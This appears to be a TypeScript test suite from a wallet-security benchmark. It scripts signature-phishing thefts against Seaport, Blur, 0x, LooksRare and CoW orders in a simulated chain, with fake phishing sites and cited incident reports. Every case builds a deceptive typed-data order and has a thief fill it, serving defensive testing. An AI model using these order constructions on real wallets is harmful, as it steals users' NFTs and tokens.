import { concatHex, type Hex, hashStruct, keccak256, zeroHash } from 'viem';
import type { Case } from '../../Case.ts';
import type { Contract } from '../../protocols/contract.ts';
import { looksRare } from '../../protocols/looksRare.ts';
import {
  componentsOf,
  conduit,
  ITEM,
  item,
  ORDER_TYPES,
  type Order,
  parametersOf,
  seaport,
} from '../../protocols/seaport.ts';
import { gallery, itemOf, weth } from '../../protocols/tokens.ts';
import { lumen, portraitOf, portraits, quarry, relics, usdc } from '../coins.ts';
import { attack, CENTS, code, MAX, members, type Site, type Stage, type Typed, UNIT, ZERO } from '../kit.ts';
import { HOUSE } from './approvals.ts';

const MARKET: Site = {
  origin: 'https://verify.cobaltgallery.xyz',
  provenance: 'Seaport zero-consideration orders (PTXPhish, 464 of 5,000), seaport-core 1.6.6',
};
const BULK: Site = {
  origin: 'https://drop.emberbirds.art',
  provenance: 'Seaport BulkOrder phishing (SlowMist, 2023-2024)',
};
const ROOT: Site = {
  origin: 'https://blue-list.emberbirds.art',
  provenance: 'Blur bulk listing phishing (Scam Sniffer, March 2023)',
};
const ZEROX: Site = {
  origin: 'https://trade.sablecourt.io',
  provenance: '0x protocol v4 NFT and limit orders; OpenSea Wyvern, February 2022',
};
const LOOKS: Site = { origin: 'https://bid.harrowmarket.io', provenance: 'npm @looksrare/contracts-exchange-v1 1.4.1' };
const COW: Site = {
  origin: 'https://intents.sablecourt.io',
  provenance: 'CoW Protocol order with a foreign receiver (GPv2Settlement)',
};

export function seaportTyped(s: Stage, market: Contract, order: Order): Typed {
  return {
    domain: { name: 'Seaport', version: '1.6', chainId: s.world.chainId, verifyingContract: market.address },
    types: ORDER_TYPES,
    primaryType: 'OrderComponents',
    message: componentsOf(order),
  };
}

const NO_KEY: Hex = zeroHash;

/** The thief takes what the order gives. */
async function fill(
  s: Stage,
  market: Contract,
  order: Order,
  signature: Hex,
  criteria: readonly unknown[] = [],
  valueWei = 0n,
): Promise<void> {
  const args = [
    { parameters: parametersOf(order), numerator: 1n, denominator: 1n, signature, extraData: '0x' },
    criteria,
    NO_KEY,
    s.thief,
  ];
  await s.rob(market, 'fulfillAdvancedOrder', args, valueWei);
}

async function stall(s: Stage): Promise<{ market: Contract; key: Hex; items: Contract; id: bigint }> {
  const [{ seaport: market }, by, items] = [await seaport(s.world), await conduit(s.world), await portraits(s.world)];
  await s.did(items, 'setApprovalForAll', [by.address, true]);
  return { market, key: by.key, items, id: portraitOf(s.world, s.user) };
}

async function orderOf(
  s: Stage,
  key: Hex,
  offer: Order['offer'],
  consideration: Order['consideration'] = [],
): Promise<Order> {
  return {
    offerer: s.user,
    offer,
    consideration,
    startTime: 0n,
    endTime: await s.in(86_400 * 90),
    salt: 77_123n,
    conduitKey: key,
  };
}

const BLUR_ORDER = members(
  'address trader,uint8 side,address matchingPolicy,address collection,uint256 tokenId,uint256 amount,address paymentToken,uint256 price,uint256 listingTime,uint256 expirationTime,uint256 salt,uint256 nonce',
);

async function rootStall(s: Stage) {
  const [exchange, items] = [await s.place('RootExchange'), await portraits(s.world)];
  await s.did(items, 'setApprovalForAll', [exchange.address, true]);
  const domain = {
    name: 'Blur Exchange',
    version: '1.0',
    chainId: s.world.chainId,
    verifyingContract: exchange.address,
  };
  const order = {
    trader: s.user,
    side: 1,
    matchingPolicy: ZERO,
    collection: items.address,
    tokenId: portraitOf(s.world, s.user),
    amount: 1n,
    paymentToken: ZERO,
    price: 0n,
    listingTime: 0n,
    expirationTime: await s.in(86_400),
    salt: 9n,
    nonce: 0n,
  };
  return { exchange, items, domain, order };
}

export const LIMIT_ORDER = members(
  'address makerToken,address takerToken,uint128 makerAmount,uint128 takerAmount,uint128 takerTokenFeeAmount,address maker,address taker,address sender,address feeRecipient,bytes32 pool,uint64 expiry,uint256 salt',
);
export const COW_ORDER = members(
  'address sellToken,address buyToken,address receiver,uint256 sellAmount,uint256 buyAmount,uint32 validTo,bytes32 appData,uint256 feeAmount,string kind,bool partiallyFillable,string sellTokenBalance,string buyTokenBalance',
);
export const MAKER_ORDER = members(
  'bool isOrderAsk,address signer,address collection,uint256 price,uint256 tokenId,uint256 amount,address strategy,address currency,uint256 nonce,uint256 startTime,uint256 endTime,uint256 minPercentageToAsk,bytes params',
);
/** Where CoW settles on every chain. */
const COW_AT = '0x9008D19f58AAbD9eD0D60971565AA8510560ab41';

export async function settlement(s: Stage): Promise<Contract> {
  const artifact = code('BatchSettlement');
  return { address: await s.world.deployAt(COW_AT, artifact), abi: artifact.abi };
}

export const ORDERS: readonly Case[] = [
  attack(MARKET, 'seaport-nothing', 'C1', 'Seaport order: an item for nothing', async (s) => {
    const { market, key, items, id } = await stall(s);
    const order = await orderOf(s, key, [item(ITEM.erc721, items.address, id, 1n)]);
    const data = seaportTyped(s, market, order);
    return s.theft(s.typed(data), s.held(items), async () => fill(s, market, order, await s.signed(data)));
  }),
  attack(MARKET, 'seaport-one-wei', 'C1', 'Seaport order: items and dollars for one wei', async (s) => {
    const { market, key, items, id } = await stall(s);
    const coin = await usdc(s.world);
    await s.allowed(coin, await conduit(s.world));
    const offer = [item(ITEM.erc721, items.address, id, 1n), item(ITEM.erc20, coin.address, 0n, 20_000n * CENTS)];
    const order = await orderOf(s, key, offer, [{ ...item(ITEM.native, ZERO, 0n, 1n), recipient: s.user }]);
    const data = seaportTyped(s, market, order);
    return s.theft(s.typed(data), s.held(coin), async () => fill(s, market, order, await s.signed(data), [], 1n));
  }),
  attack(MARKET, 'seaport-pays-thief', 'C1', 'Seaport order whose price goes to somebody else', async (s) => {
    const { market, key, items, id } = await stall(s);
    const order = await orderOf(
      s,
      key,
      [item(ITEM.erc721, items.address, id, 1n)],
      [{ ...item(ITEM.native, ZERO, 0n, UNIT), recipient: HOUSE }],
    );
    const data = seaportTyped(s, market, order);
    return s.theft(s.typed(data), s.held(items), async () => fill(s, market, order, await s.signed(data), [], UNIT));
  }),
  attack(MARKET, 'seaport-any-item', 'C1', 'Seaport order: any item of the collection, for dust', async (s) => {
    const { market, key, items, id } = await stall(s);
    const order = await orderOf(
      s,
      key,
      [item(ITEM.erc721Any, items.address, 0n, 1n)],
      [{ ...item(ITEM.native, ZERO, 0n, 10n), recipient: s.user }],
    );
    const data = seaportTyped(s, market, order);
    const resolver = { orderIndex: 0n, side: 0, index: 0n, identifier: id + 2n, criteriaProof: [] };
    return s.theft(s.typed(data), s.held(items), async () =>
      fill(s, market, order, await s.signed(data), [resolver], 10n),
    );
  }),
  attack(MARKET, 'seaport-coins', 'C1', 'Seaport order: WETH for nothing', async (s) => {
    const { market, key } = await stall(s);
    const coin = await weth(s.world);
    await s.allowed(coin, await conduit(s.world));
    const order = await orderOf(s, key, [item(ITEM.erc20, coin.address, 0n, 300n * UNIT)]);
    const data = seaportTyped(s, market, order);
    return s.theft(s.typed(data), s.held(coin), async () => fill(s, market, order, await s.signed(data)));
  }),
  attack(BULK, 'seaport-bulk', 'C1', 'Seaport BulkOrder of two free orders', async (s) => {
    const { market, key, items, id } = await stall(s);
    const free = await orderOf(s, key, [item(ITEM.erc721, items.address, id, 1n)]);
    const other = { ...(await orderOf(s, key, [item(ITEM.erc721, items.address, id + 1n, 1n)])), salt: 5n };
    const data: Typed = {
      ...seaportTyped(s, market, free),
      types: { BulkOrder: members('OrderComponents[2] tree'), ...ORDER_TYPES },
      primaryType: 'BulkOrder',
      message: { tree: [componentsOf(free), componentsOf(other)] },
    };
    const sibling = hashStruct({ data: componentsOf(other), primaryType: 'OrderComponents', types: ORDER_TYPES });
    return s.theft(s.typed(data), s.held(items), async () =>
      fill(s, market, free, concatHex([await s.signed(data), '0x000000', sibling])),
    );
  }),
  attack(BULK, 'fulfil-for-junk', 'C1', 'fulfillAdvancedOrder: the user gives an item for a junk coin', async (s) => {
    const { market, key, items, id } = await stall(s);
    const junk = await s.trap('Namesake', ['Ember Points', 'EMBP', 18]);
    await s.rob(junk, 'approve', [market.address, MAX]);
    const order: Order = {
      offerer: s.thief,
      offer: [item(ITEM.erc20, junk.address, 0n, 1_000_000n * UNIT)],
      consideration: [{ ...item(ITEM.erc721, items.address, id, 1n), recipient: s.thief }],
      startTime: 0n,
      endTime: await s.in(86_400),
      salt: 4n,
    };
    const signature = await s.signed(seaportTyped(s, market, order), s.thief);
    const args = [
      { parameters: parametersOf(order), numerator: 1n, denominator: 1n, signature, extraData: '0x' },
      [],
      key,
      s.user,
    ];
    return s.theft(s.call(market, 'fulfillAdvancedOrder', args), s.held(items));
  }),
  attack(BULK, 'bulk-transfer', 'C2', 'bulkTransfer of two items to one address', async (s) => {
    const [items, mover] = [await portraits(s.world), await s.place('ItemMover')];
    await s.did(items, 'setApprovalForAll', [mover.address, true]);
    const id = portraitOf(s.world, s.user);
    const list = [id, id + 1n].map((identifier) => ({ itemType: 2, token: items.address, identifier, amount: 1n }));
    const asked = s.call(mover, 'bulkTransfer', [
      [{ items: list, recipient: HOUSE, validateERC721Receiver: false }],
      NO_KEY,
    ]);
    return s.theft(asked, s.held(items));
  }),
  attack(BULK, 'batch-editions', 'C2', 'ERC-1155 safeBatchTransferFrom to a new address', async (s) => {
    const items = await relics(s.world);
    const asked = s.call(items, 'safeBatchTransferFrom', [s.user, HOUSE, [1n, 2n, 3n], [5n, 5n, 5n], '0x']);
    return s.theft(asked, s.editions(items, 3n));
  }),
  attack(ROOT, 'bare-root', 'C4', 'Root{bytes32 root} of free listings', async (s) => {
    const { exchange, items, domain, order } = await rootStall(s);
    const leaf = hashStruct({ data: order, primaryType: 'Order', types: { Order: BLUR_ORDER } });
    const sibling = keccak256('0x01');
    const root = keccak256(BigInt(leaf) < BigInt(sibling) ? concatHex([leaf, sibling]) : concatHex([sibling, leaf]));
    const data: Typed = { domain, types: { Root: members('bytes32 root') }, primaryType: 'Root', message: { root } };
    return s.theft(s.typed(data), s.held(items), async () =>
      s.rob(exchange, 'execute', [order, await s.signed(data), [sibling]]),
    );
  }),
  attack(ROOT, 'blur-order', 'C5', 'Blur Order at price nought', async (s) => {
    const { exchange, items, domain, order } = await rootStall(s);
    const data: Typed = { domain, types: { Order: BLUR_ORDER }, primaryType: 'Order', message: order };
    return s.theft(s.typed(data), s.held(items), async () =>
      s.rob(exchange, 'execute', [order, await s.signed(data), []]),
    );
  }),
  attack(ZEROX, 'zeroex-item', 'C5', '0x ERC721Order at one wei with a named taker', async (s) => {
    const [exchange, items] = [await s.place('ZeroLike'), await gallery(s.world)];
    await s.did(items, 'setApprovalForAll', [exchange.address, true]);
    const message = {
      direction: 0,
      maker: s.user,
      taker: s.thief,
      expiry: await s.in(86_400),
      nonce: 1n,
      erc20Token: '0xEeeeeEeeeEeEeeEeEeEeeEEEeeeeEeeeeeeeEEeE',
      erc20TokenAmount: 1n,
      fees: [],
      erc721Token: items.address,
      erc721TokenId: itemOf(s.world, s.user),
      erc721TokenProperties: [],
    };
    const data: Typed = {
      domain: { name: 'ZeroEx', version: '1.0.0', chainId: s.world.chainId, verifyingContract: exchange.address },
      types: {
        ERC721Order: members(
          'uint8 direction,address maker,address taker,uint256 expiry,uint256 nonce,address erc20Token,uint256 erc20TokenAmount,Fee[] fees,address erc721Token,uint256 erc721TokenId,Property[] erc721TokenProperties',
        ),
        Fee: members('address recipient,uint256 amount,bytes feeData'),
        Property: members('address propertyValidator,bytes propertyData'),
      },
      primaryType: 'ERC721Order',
      message,
    };
    return s.theft(s.typed(data), s.held(items), async () =>
      s.rob(exchange, 'buyERC721', [message, await s.signed(data)], 1n),
    );
  }),
  attack(ZEROX, 'zeroex-limit', 'C5', '0x LimitOrder: all dollars for one unit of a project coin', async (s) => {
    const [exchange, coin, dust] = [await s.place('ZeroLike'), await usdc(s.world), await lumen(s.world)];
    await s.allowed(coin, exchange);
    const message = {
      makerToken: coin.address,
      takerToken: dust.address,
      makerAmount: await s.balance(coin),
      takerAmount: 0n,
      takerTokenFeeAmount: 0n,
      maker: s.user,
      taker: s.thief,
      sender: ZERO,
      feeRecipient: ZERO,
      pool: NO_KEY,
      expiry: await s.in(3600),
      salt: 3n,
    };
    const data: Typed = {
      domain: { name: 'ZeroEx', version: '1.0.0', chainId: s.world.chainId, verifyingContract: exchange.address },
      types: { LimitOrder: LIMIT_ORDER },
      primaryType: 'LimitOrder',
      message,
    };
    return s.theft(s.typed(data), s.held(coin), async () =>
      s.rob(exchange, 'fillLimitOrder', [message, await s.signed(data)]),
    );
  }),
  attack(LOOKS, 'looksrare-ask', 'C5', 'LooksRare MakerOrder: ask at one wei', async (s) => {
    const [market, items, coin] = [await looksRare(s.world), await gallery(s.world), await weth(s.world)];
    await s.did(items, 'setApprovalForAll', [market.transferManager.address, true]);
    await s.world.send(s.thief, { to: coin.address, abi: coin.abi, functionName: 'deposit', valueWei: UNIT });
    await s.rob(coin, 'approve', [market.exchange.address, MAX]);
    const tokenId = itemOf(s.world, s.user);
    const endTime = await s.in(86_400);
    const message = {
      isOrderAsk: true,
      signer: s.user,
      collection: items.address,
      price: 1n,
      tokenId,
      amount: 1n,
      strategy: market.strategy.address,
      currency: coin.address,
      nonce: 0n,
      startTime: 0n,
      endTime,
      minPercentageToAsk: 9800n,
      params: '0x',
    };
    const data: Typed = {
      domain: {
        name: 'LooksRareExchange',
        version: '1',
        chainId: s.world.chainId,
        verifyingContract: market.exchange.address,
      },
      types: { MakerOrder: MAKER_ORDER },
      primaryType: 'MakerOrder',
      message,
    };
    return s.theft(s.typed(data), s.held(items), async () => {
      const [v, r, vs] = await s.vrs(data);
      const taker = { isOrderAsk: false, taker: s.thief, price: 1n, tokenId, minPercentageToAsk: 0n, params: '0x' };
      await s.rob(market.exchange, 'matchAskWithTakerBid', [taker, { ...message, v, r, s: vs }]);
    });
  }),
  attack(COW, 'cow-receiver', 'G4', 'CoW Order whose receiver is somebody else', async (s) => {
    const exchange = await settlement(s);
    const [sell, buy] = [await usdc(s.world), await quarry(s.world)];
    await s.allowed(sell, exchange);
    const order = {
      sellToken: sell.address,
      buyToken: buy.address,
      receiver: s.thief,
      sellAmount: 30_000n * CENTS,
      buyAmount: 1n,
      validTo: Number(await s.in(1800)),
      appData: NO_KEY,
      feeAmount: 0n,
    };
    const data: Typed = {
      domain: { name: 'Gnosis Protocol', version: 'v2', chainId: s.world.chainId, verifyingContract: exchange.address },
      types: { Order: COW_ORDER },
      primaryType: 'Order',
      message: {
        ...order,
        kind: 'sell',
        partiallyFillable: false,
        sellTokenBalance: 'erc20',
        buyTokenBalance: 'erc20',
      },
    };
    return s.theft(s.typed(data), s.held(sell), async () => {
      await s.did(buy, 'transfer', [s.thief, 10n], 0n, s.world.friend);
      await s.rob(buy, 'approve', [exchange.address, MAX]);
      await s.rob(exchange, 'settle', [order, await s.signed(data), 1n]);
    });
  }),
];
